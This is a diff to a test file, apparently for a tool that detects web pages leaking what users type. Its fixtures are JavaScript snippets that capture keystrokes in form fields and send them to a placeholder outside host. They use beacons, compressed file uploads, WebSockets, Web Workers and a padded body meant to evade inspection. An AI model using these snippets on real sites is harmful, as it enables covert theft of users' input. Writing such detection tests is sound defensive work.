@@ -37,6 +37,19 @@ const KEYS: Record<string, string> = {
     navigator.sendBeacon('{other}/neem', [...new Uint8Array(sum)].map((one) => one.toString(16).padStart(2, '0')).join('')))`,
   socket: `socket.send(value)`,
   own: `fetch('/neem', { method: 'POST', body: value })`,
+  file: `const form = new FormData(); form.append('film', new Blob([value])); fetch('{other}/neem', { method: 'POST', body: form })`,
+  packed: `const press = new CompressionStream('gzip'); const pen = press.writable.getWriter()
+    pen.write(new TextEncoder().encode(value)); pen.close(); new Response(press.readable).blob().then((film) => {
+      const form = new FormData(); form.append('soort', 'film'); form.append('film', film)
+      navigator.sendBeacon('{other}/neem', form) })`,
+  worker: `worker.postMessage(value)`,
+  long: `fetch('{other}/neem', { method: 'POST', body: '-'.repeat(120_000) + value })`,
+}
+/** What it opens before that. */
+const OPENS: Record<string, string> = {
+  socket: `const socket = new WebSocket('{other}/lijn'.replace('http', 'ws'));`,
+  worker: `const work = "onmessage = ({ data }) => fetch('{other}/neem', { method: 'POST', body: new Blob([data]) })"
+    const worker = new Worker(URL.createObjectURL(new Blob([work])));`,
 }
 /** What waits until nobody types for a while. */
 const LATER = `clearTimeout(window.later); window.later = setTimeout(() => navigator.sendBeacon('{other}/neem', value), 500)`
@@ -51,12 +64,7 @@ const SCRIPTS: Record<string, string> = {
     const pen = clean.getContext('2d'); pen.fillText('abcdefghijklmnop', 1, 9); clean.toDataURL(); ${SEND} })`,
   '/film.js': REPLAY,
   '/toets.js': `addEventListener('DOMContentLoaded', () => document.onkeydown = () => {})`,
-  ...Object.fromEntries(
-    Object.entries(KEYS).map(([name, what]) => [
-      `/typ-${name}.js`,
-      onType(what, name === 'socket' ? `const socket = new WebSocket('{other}/lijn'.replace('http', 'ws'));` : ''),
-    ]),
-  ),
+  ...Object.fromEntries(Object.entries(KEYS).map(([name, what]) => [`/typ-${name}.js`, onType(what, OPENS[name])])),
   '/typ-later.js': onType(LATER),
   // Keys one by one.
   '/typ-los.js': `addEventListener('keydown', ({ key }) => navigator.sendBeacon('{other}/neem', JSON.stringify([key])))`,
@@ -231,12 +239,26 @@ test.each([
   ['socket', OTHER, 'socket', 'plain'],
   ['los', OTHER, 'body', 'pieces'],
   ['own', '127.0.0.1', 'body', 'plain'],
+  ['file', OTHER, 'body', 'plain'],
+  ['packed', OTHER, 'body', 'plain'],
 ])('what is typed goes out by %s', async (name, host, way, coding) => {
   const { typed } = await watched(`/typ-${name}`)
   expect(typed?.fields).toBe(3)
   const fields = ['email', 'tel', 'text'].map((field) => expect.objectContaining({ host, way, coding, field }))
   expect(typed?.leaks).toEqual(expect.arrayContaining(fields))
   expect(typed?.leaks.filter((leak) => leak.host !== host)).toEqual([])
+})
+
+test.each([
+  ['a file that a worker sends', '/typ-worker'],
+  ['what is too long to be read whole', '/typ-long'],
+])('of %s is not said that nothing that was typed is in it', async (_, path) => {
+  const { typed, lacks } = await watched(path)
+  expect([typed?.leaks, lacks]).toEqual([[], { requests: ['cut'], content: ['cut'] }])
+})
+
+test('that the boxes are empty again is no word that was lost', async () => {
+  for (let time = 0; time < 3; time++) expect((await watched('/typ-own')).lacks).toEqual({})
 })
 
 test('what waits until nobody types any more goes out too, each time', { timeout: 60_000 }, async () => {
